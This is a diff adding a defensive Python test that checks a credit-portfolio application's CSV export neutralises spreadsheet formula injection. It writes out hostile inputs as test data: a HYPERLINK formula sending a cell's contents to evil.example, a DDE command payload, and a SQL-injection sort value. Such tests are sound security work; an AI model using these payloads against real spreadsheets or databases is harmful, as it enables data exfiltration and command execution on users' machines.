@@ -213,3 +213,25 @@ def test_officer_routes_explain_history_and_portfolio(tmp_path: Path) -> None:
             assert r.status_code == 422 and "not in the crop legend" in r.text
         assert c.get("/credit/portfolio", params={"sort": "limit_cny; DROP TABLE x"}, headers=officer).status_code == 422
         assert c.get("/credit/portfolio", params={"status": "rejected"}, headers=officer).json()["totals"]["claims"] == 1
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text(bank: Path, tmp_path: Path) -> None:
+    """QA 2026-12-08: a field named =HYPERLINK(...) reached the export and history CSVs as a live formula."""
+    from assets.cli.render import to_csv
+    from assets.exports import spreadsheet_safe
+
+    for formula in ('=HYPERLINK("http://evil.example/?x="&B2,"details")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"):
+        assert spreadsheet_safe(formula) == "'" + formula
+    assert spreadsheet_safe(-2.5) == -2.5 and spreadsheet_safe("Wheat north") == "Wheat north"
+    csv_text = to_csv([{"name": "=cmd|' /C calc'!A0", "limit_cny": -0.0}])
+    assert "\n'=cmd|" in csv_text and ",-0.0" in csv_text
+    import shutil
+
+    db = tmp_path / "names.duckdb"
+    shutil.copy(bank, db)
+    with duckdb.connect(str(db)) as con:
+        con.execute("UPDATE claims SET name = '=HYPERLINK(\"http://evil.example\",\"x\")' WHERE claim_id = "
+                    "(SELECT min(claim_id) FROM claims)")
+    out = tmp_path / "fields.csv"
+    assert main(["export", "--db", str(db), "--format", "csv", "--out", str(out)]) == 0
+    assert "'=HYPERLINK(" in out.read_text() and ",=HYPERLINK" not in out.read_text().replace('"', "")
